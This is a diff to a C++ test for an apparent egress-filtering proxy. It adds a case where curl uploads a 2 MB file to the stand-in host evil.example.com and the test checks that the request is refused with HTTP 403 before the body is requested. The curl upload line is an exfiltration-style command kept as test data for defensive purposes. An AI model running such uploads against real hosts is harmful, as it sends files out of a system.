@@ -468,6 +468,18 @@ TEST_F(EgressTest, DeniedHostGetsJsonNamingTheRule) {
   auto record = recordFor("evil.example.com");
   ASSERT_TRUE(record.has_value());
   EXPECT_EQ(str(*record, telemetry::attr::kClrkDecision), "deny");
+  // A refused upload that asked for "Expect: 100-continue" is answered before its body is asked
+  // for (no 100 Continue), and still gets the whole refusal.
+  fs::path upload = *dir_ / "denied-upload.bin";
+  std::ofstream(upload, std::ios::binary) << std::string(2 * 1024 * 1024, 'd');
+  auto refused = curl(
+      "-v --http1.1 -H 'Expect: 100-continue' -H 'Content-Type: "
+      "application/octet-stream' --data-binary @" +
+      upload.string() + " https://evil.example.com/upload");
+  ASSERT_EQ(refused.exit_code, 0) << refused.output;
+  EXPECT_THAT(refused.output, HasSubstr("HTTP 403"));
+  EXPECT_THAT(refused.output, HasSubstr("deny-all"));
+  EXPECT_THAT(refused.output, Not(HasSubstr("100 Continue")));
   // Plain HTTP is refused the same way.
   auto plain = curl("http://evil.example.com/x");
   EXPECT_THAT(plain.output, HasSubstr("HTTP 403"));
